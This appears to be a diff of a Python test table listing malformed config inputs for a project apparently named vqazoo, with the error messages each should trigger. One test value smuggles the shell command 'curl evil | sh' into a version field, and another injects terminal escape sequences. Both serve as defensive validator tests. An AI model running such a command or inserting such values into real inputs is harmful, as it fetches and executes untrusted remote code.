@@ -150,11 +150,11 @@ WRONG: dict[str, tuple[Change, str]] = {
     "a version in words": (lambda c: c.update(format_version="1"), "version '1'"),
     "a version with a fraction": (lambda c: c.update(format_version=1.0), "version 1.0"),
     "a release that gives orders": (
-        lambda c: c.update(format_version=2, vqazoo_version="1; curl evil | sh"),
+        lambda c: c.update(format_version=3, vqazoo_version="1; curl evil | sh"),
         r"install vqazoo '1; curl evil \| sh' or newer",
     ),
     "a release with an escape": (
-        lambda c: c.update(format_version=2, vqazoo_version="\x1b[2J" * 50),
+        lambda c: c.update(format_version=3, vqazoo_version="\x1b[2J" * 50),
         r"\\x1b",
     ),
     "towers as a list": (lambda c: c.update(towers=[1]), "'towers' is"),
